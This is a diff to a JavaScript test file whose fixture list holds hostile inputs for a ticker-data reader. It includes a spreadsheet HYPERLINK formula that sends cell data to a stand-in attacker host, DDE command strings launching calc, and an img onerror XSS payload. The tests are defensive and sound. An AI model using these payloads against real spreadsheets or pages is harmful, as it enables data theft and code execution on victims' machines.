@@ -80,13 +80,15 @@ describe("the built pages and manifest", () => {
   });
 });
 
+// Formula-like names, and the one formula-like ticker the ticker character set still allows (a leading "-"):
+// tickers with "=", "+", "@" or "'" are refused on their line (docs/security.md), like the two below.
 const HOSTILE = [
-  { ticker: "=HYP", name: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for prices")' },
-  { ticker: "@SUM", name: "@SUM(1+1)*cmd|' /C calc'!A0" },
-  { ticker: "+CMD", name: "+cmd|' /C calc'!A0" },
+  { ticker: "HYP", name: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for prices")' },
+  { ticker: "SUMX", name: "@SUM(1+1)*cmd|' /C calc'!A0" },
+  { ticker: "CMD", name: "+cmd|' /C calc'!A0" },
   { ticker: "-23", name: "-2+3" },
-  { ticker: "=1+1", name: "=1+1" },
-  { ticker: "'=Q", name: "'=quoted" },
+  { ticker: "ONE", name: "=1+1" },
+  { ticker: "QQ", name: "'=quoted" },
 ];
 /** Refused by the reader (over 16 characters), so shown in the pane's list of problems: as text, never as HTML. */
 const HTML_TICKER = "<img src=x onerror=window.__xss=1>";
